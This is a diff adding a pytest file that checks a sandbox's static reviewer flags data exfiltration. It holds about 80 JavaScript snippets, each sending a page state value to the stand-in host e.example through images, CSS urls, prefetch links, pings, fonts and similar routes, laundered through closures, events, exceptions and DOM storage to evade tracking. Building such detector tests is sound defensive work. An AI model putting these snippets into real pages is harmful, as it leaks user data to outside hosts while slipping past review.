@@ -1,0 +1,105 @@
+"""State that travels to a request URL by every way the language and the page give (containers,
+closures, bound and default arguments, globals, messages, the DOM, CSS variables, exceptions,
+iterators): the static layer proves each flow (``exfil.state-to-url``), not only a possible one.
+The ways are data: one line per way, the same block around each."""
+
+from __future__ import annotations
+
+import pytest
+
+from flowui_sandbox.sandbox.review import review_static
+
+HEAD = "<p data-bind='c.name'></p><script>\n"
+
+#: name -> a script that sends the state value c.name in a URL to e.example.
+FLOWS = {
+ "map": "const m = new Map(); m.set('k', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + m.get('k');",
+ "map_ctor": "const m = new Map([['k', flowUi.get('c.name')]]); new Image().src = 'https://e.example/?' + m.get('k');",
+ "map_iter": "const m = new Map(); m.set('k', flowUi.get('c.name')); for (const [k, v] of m) new Image().src = 'https://e.example/?' + v;",
+ "set": "const s = new Set(); s.add(flowUi.get('c.name')); new Image().src = 'https://e.example/?' + [...s][0];",
+ "weakmap": "const key = {}; const w = new WeakMap(); w.set(key, flowUi.get('c.name')); new Image().src = 'https://e.example/?' + w.get(key);",
+ "class_field": "class A { constructor(v) { this.v = v; } url() { return 'https://e.example/?' + this.v; } } new Image().src = new A(flowUi.get('c.name')).url();",
+ "getter": "const o = { get v() { return flowUi.get('c.name'); } }; new Image().src = 'https://e.example/?' + o.v;",
+ "promise": "Promise.resolve(flowUi.get('c.name')).then((v) => { new Image().src = 'https://e.example/?' + v; });",
+ "async": "(async () => { const v = await flowUi.get('c.name'); new Image().src = 'https://e.example/?' + v; })();",
+ "json": "const v = JSON.parse(JSON.stringify({a: flowUi.get('c.name')})).a; new Image().src = 'https://e.example/?' + v;",
+ "array_from": "const v = Array.from(flowUi.get('c.name')).join(''); new Image().src = 'https://e.example/?' + v;",
+ "usp": "const p = new URLSearchParams({n: flowUi.get('c.name')}); new Image().src = 'https://e.example/?' + p;",
+ "usp_append": "const p = new URLSearchParams(); p.append('n', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + p.toString();",
+ "url_obj": "const u = new URL('https://e.example/'); u.searchParams.set('n', flowUi.get('c.name')); new Image().src = u.href;",
+ "url_obj2": "const u = new URL('https://e.example/'); u.search = flowUi.get('c.name'); new Image().src = u;",
+ "generator": "function* g() { yield flowUi.get('c.name'); } new Image().src = 'https://e.example/?' + g().next().value;",
+ "reduce": "const v = [flowUi.get('c.name')].reduce((a, b) => a + b, ''); new Image().src = 'https://e.example/?' + v;",
+ "closure": "function mk(v) { return () => 'https://e.example/?' + v; } const f = mk(flowUi.get('c.name')); new Image().src = f();",
+ "proxy": "const p = new Proxy({}, { get: () => flowUi.get('c.name') }); new Image().src = 'https://e.example/?' + p.x;",
+ "structured": "const v = structuredClone(flowUi.get('c.name')); new Image().src = 'https://e.example/?' + v;",
+ "textencoder": "const v = new TextEncoder().encode(flowUi.get('c.name')).join('.'); new Image().src = 'https://e.example/?' + v;",
+ "charcodes": "const v = [...flowUi.get('c.name')].map(c => c.charCodeAt(0)).join('-'); new Image().src = 'https://e.example/?' + v;",
+ "symbol": "const k = Symbol('x'); const o = {[k]: flowUi.get('c.name')}; new Image().src = 'https://e.example/?' + o[k];",
+ "object_entries": "const o = {a: flowUi.get('c.name')}; for (const [k, v] of Object.entries(o)) new Image().src = 'https://e.example/?' + v;",
+ "object_values": "const o = {a: flowUi.get('c.name')}; new Image().src = 'https://e.example/?' + Object.values(o)[0];",
+ "dom_dataset": "document.body.dataset.x = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + document.body.dataset.x;",
+ "dom_attr": "document.body.setAttribute('data-x', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + document.body.getAttribute('data-x');",
+ "dom_text": "const d = document.createElement('div'); d.textContent = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + d.textContent;",
+ "css_var": "document.body.style.setProperty('--x', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + getComputedStyle(document.body).getPropertyValue('--x');",
+ "window_name": "window.name = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + window.name;",
+ "hash": "location.hash = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + location.hash;",
+ "tagged": "const t = (s, ...v) => s[0] + v[0]; new Image().src = t`https://e.example/?${flowUi.get('c.name')}`;",
+ "onchange": "flowUi.onChange((st) => { new Image().src = 'https://e.example/?' + st.c.name; });",
+ "bound_text": "new Image().src = 'https://e.example/?' + document.querySelector('[data-bind]').textContent;",
+ "timer_then_img": ("const v = flowUi.get('c.name'); setTimeout(() => { const i = document.createElement('img');"
+                    " i.setAttribute('src', `https://e.example/${v}`); document.body.append(i); }, 10);"),
+ "srcset": "const i = new Image(); i.srcset = 'https://e.example/' + flowUi.get('c.name') + ' 1x';",
+ "style_bg": "document.body.style.background = 'url(https://e.example/' + flowUi.get('c.name') + ')';",
+ "link_prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'https://e.example/' + flowUi.get('c.name'); document.head.append(l);",
+ "anchor_ping": "const a = document.createElement('a'); a.ping = 'https://e.example/' + flowUi.get('c.name');",
+ "innerhtml": "document.body.innerHTML = '<img src=\"https://e.example/' + flowUi.get('c.name') + '\">';",
+ "array_destructure": "const [v] = [flowUi.get('c.name')]; new Image().src = 'https://e.example/?' + v;",
+ "spread_obj": "const o = {...{a: flowUi.get('c.name')}}; new Image().src = 'https://e.example/?' + o.a;",
+ "assign_obj": "const o = Object.assign({}, {a: flowUi.get('c.name')}); new Image().src = 'https://e.example/?' + o.a;",
+ "fn_prop": "function f() {} f.v = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + f.v;",
+ "global_var": "var g1 = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + window.g1;",
+ "globalThis_prop": "globalThis.q = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + q;",
+ "string_methods": "const v = flowUi.get('c.name').split('').reverse().join('').padStart(3).toUpperCase(); new Image().src = 'https://e.example/?' + v;",
+ "number_conv": "const v = parseInt(flowUi.get('c.name'), 36).toString(2); new Image().src = 'https://e.example/?' + v;",
+ "btoa": "new Image().src = 'https://e.example/?' + btoa(unescape(encodeURIComponent(flowUi.get('c.name'))));",
+ "state_prop": "new Image().src = 'https://e.example/?' + flowUi.state.c.name;",
+ "map_foreach": "const m = new Map(); m.set('k', flowUi.get('c.name')); m.forEach((v) => { new Image().src = 'https://e.example/?' + v; });",
+ "array_push_iter": "const a = []; a.push(flowUi.get('c.name')); a.forEach((v) => { new Image().src = 'https://e.example/?' + v; });",
+ "event_detail": "document.addEventListener('x', (e) => { new Image().src = 'https://e.example/?' + e.detail; }); document.dispatchEvent(new CustomEvent('x', {detail: flowUi.get('c.name')}));",
+ "postmessage_self": "window.addEventListener('message', (e) => { new Image().src = 'https://e.example/?' + e.data; }); window.postMessage(flowUi.get('c.name'), '*');",
+ "message_channel": "const ch = new MessageChannel(); ch.port1.onmessage = (e) => { new Image().src = 'https://e.example/?' + e.data; }; ch.port2.postMessage(flowUi.get('c.name'));",
+ "queue_microtask": "let v; queueMicrotask(() => { new Image().src = 'https://e.example/?' + v; }); v = flowUi.get('c.name');",
+ "raf": "const v = flowUi.get('c.name'); requestAnimationFrame(function () { this; new Image().src = 'https://e.example/?' + v; });",
+ "bind_arg": "function s(v) { new Image().src = 'https://e.example/?' + v; } s.bind(null, flowUi.get('c.name'))();",
+ "call": "function s(v) { new Image().src = 'https://e.example/?' + v; } s.call(null, flowUi.get('c.name'));",
+ "apply": "function s(v) { new Image().src = 'https://e.example/?' + v; } s.apply(null, [flowUi.get('c.name')]);",
+ "default_param": "function s(v = flowUi.get('c.name')) { new Image().src = 'https://e.example/?' + v; } s();",
+ "arguments": "function s() { new Image().src = 'https://e.example/?' + arguments[0]; } s(flowUi.get('c.name'));",
+ "rest": "function s(...a) { new Image().src = 'https://e.example/?' + a[0]; } s(flowUi.get('c.name'));",
+ "ternary": "const v = Math.random() > 2 ? '' : flowUi.get('c.name'); new Image().src = 'https://e.example/?' + v;",
+ "logical": "const v = null ?? flowUi.get('c.name'); new Image().src = 'https://e.example/?' + v;",
+ "comma": "const v = (0, flowUi.get)('c.name'); new Image().src = 'https://e.example/?' + v;",
+ "optional_call": "const v = flowUi?.get?.('c.name'); new Image().src = 'https://e.example/?' + v;",
+ "with_eval_free_index": "const parts = {}; parts['a'] = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + parts.a;",
+ "getter_class": "class A { get v() { return flowUi.get('c.name'); } } new Image().src = 'https://e.example/?' + new A().v;",
+ "static_class": "class A { static v = flowUi.get('c.name'); } new Image().src = 'https://e.example/?' + A.v;",
+ "label_for_of_string": "let out = ''; for (const ch of flowUi.get('c.name')) out += ch; new Image().src = 'https://e.example/?' + out;",
+ "while_index": "const s = flowUi.get('c.name'); let o = ''; let i = 0; while (i < s.length) { o += s[i]; i++; } new Image().src = 'https://e.example/?' + o;",
+ "switch": "let o; switch (1) { case 1: o = flowUi.get('c.name'); } new Image().src = 'https://e.example/?' + o;",
+ "try_catch": "try { throw flowUi.get('c.name'); } catch (e) { new Image().src = 'https://e.example/?' + e; }",
+ "error_msg": "try { throw new Error(flowUi.get('c.name')); } catch (e) { new Image().src = 'https://e.example/?' + e.message; }",
+ "audio": "new Audio('https://e.example/' + flowUi.get('c.name'));",
+ "video_poster": "const v = document.createElement('video'); v.poster = 'https://e.example/' + flowUi.get('c.name');",
+ "svg_image": "const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', 'https://e.example/' + flowUi.get('c.name'));",
+ "font_face": "new FontFace('x', 'url(https://e.example/' + flowUi.get('c.name') + ')').load();",
+ "css_insert": "document.styleSheets[0]?.insertRule('body{background:url(https://e.example/' + flowUi.get('c.name') + ')}');",
+ "openurl": "flowUi.openUrl('https://e.example/?' + flowUi.get('c.name'));",
+}
+
+
+@pytest.mark.parametrize("way", sorted(FLOWS))
+def test_the_flow_is_proved(way):
+    found = review_static(HEAD + FLOWS[way] + "\n</script>", file="b.html", fields=["c.name"])
+    proved = [f for f in found if f.rule == "exfil.state-to-url"]
+    assert proved and all(any(p.startswith("c.name") for p in f.paths) for f in proved), [(f.rule, f.paths, f.message) for f in found]
